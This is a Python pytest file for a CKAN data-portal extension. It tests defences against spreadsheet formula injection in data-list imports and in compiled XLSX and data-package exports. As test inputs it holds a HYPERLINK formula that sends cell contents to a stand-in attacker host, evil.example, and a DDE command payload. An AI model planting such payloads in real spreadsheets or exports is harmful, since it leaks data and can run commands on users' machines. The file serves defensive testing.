"""Formula injection (audit hole 6): column names of data files reached the
Walidata compilation as formula cells; the data-list import accepted
``=HYPERLINK(...)`` in Judul, Satuan and Catatan."""
from __future__ import annotations

import csv
import io
import json
import types
import zipfile

import openpyxl
import pytest

from ckanext.sektoral.documents import compile as compile_mod
from ckanext.sektoral.core import datalist as dl
from ckanext.sektoral.core.cells import is_formula_like
from tests.core.test_datalist import HEADER, ROWS, make_csv, make_xlsx, parse

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"Klik")'


@pytest.mark.parametrize("text", [EVIL, "+cmd|' /C calc'!A0", "@SUM(A1)",
                                  "-2+3", "\t=1", " =1"])
def test_formula_like(text):
    assert is_formula_like(text)


@pytest.mark.parametrize("text", ["-", "–", "-12,5", "Jumlah", "", "1.234"])
def test_plain_text_is_not_formula_like(text):
    assert not is_formula_like(text)


def _xlsx_with_text(rows, row, column, text):
    """An XLSX whose cell holds ``text`` as text (Excel: typed with a
    leading apostrophe), not as a formula."""
    book = openpyxl.load_workbook(io.BytesIO(make_xlsx(rows)))
    sheet = book.worksheets[0]
    for cells in sheet.iter_rows():
        if [c.value for c in cells][:2] == rows[row][:2]:
            cells[column].value = text
            cells[column].data_type = "s"
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


@pytest.mark.parametrize("column", [1, 2, 7])
@pytest.mark.parametrize("kind", ["csv", "xlsx"])
def test_datalist_refuses_formulas_naming_the_row(column, kind):
    rows = [list(r) for r in ROWS]
    if kind == "csv":
        rows[1][column] = EVIL
        data = make_csv(rows)
    else:
        data = _xlsx_with_text(rows, 1, column, EVIL)
    result = parse(data, filename="daftar." + kind)
    assert not result.items or len(result.items) < len(ROWS)
    errors = [e for e in result.errors if e.message == dl.MSG_FORMULA]
    assert len(errors) == 1, result.errors
    assert errors[0].row == 3  # the header is row 1 of the spreadsheet
    assert errors[0].column == HEADER[column]


def _old_file(tmp_path):
    """A data file validated before the upload check existed: its Table
    Schema has a column named like a formula."""
    schema = {"fields": [{"name": "kode", "type": "string"},
                         {"name": EVIL, "type": "integer"}]}
    path = tmp_path / "data.csv"
    path.write_text("kode," + '"' + EVIL.replace('"', '""') + '"' + "\n"
                    "8271,5\n", encoding="utf-8")
    pkg = {"name": "data-lama", "title": "Data Lama", "notes": ""}
    metadata = {k: "x" for k, _label in compile_mod.METADATA_FIELDS}
    return [{"pkg": pkg, "metadata": metadata,
             "files": [{"path": str(path), "schema": schema,
                        "format": "csv"}]}]


def test_compilation_neutralises_column_names(tmp_path):
    datasets = _old_file(tmp_path)
    cycle = types.SimpleNamespace(code="2026-S1", title="Semester I 2026")
    book = openpyxl.load_workbook(io.BytesIO(
        compile_mod.combined_xlsx(cycle, datasets)))
    for ws in book.worksheets:
        for row in ws.iter_rows(values_only=True):
            for value in row:
                assert not is_formula_like(value), (ws.title, value)
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.value)
    package = zipfile.ZipFile(io.BytesIO(
        compile_mod.data_package(cycle, datasets)))
    descriptor = json.loads(package.read("datapackage.json"))
    for resource in descriptor["resources"]:
        text = package.read(resource["path"]).decode("utf-8")
        header = next(csv.reader(io.StringIO(text)))
        assert not any(is_formula_like(h) for h in header), header
        names = [f["name"] for f in resource["schema"]["fields"]]
        assert names == header  # the package still validates
    from frictionless import Package
    with zipfile.ZipFile(io.BytesIO(
            compile_mod.data_package(cycle, datasets))) as zf:
        zf.extractall(tmp_path / "pkg")
    report = Package(str(tmp_path / "pkg" / "datapackage.json")).validate()
    assert report.valid, report.flatten(["type", "note"])
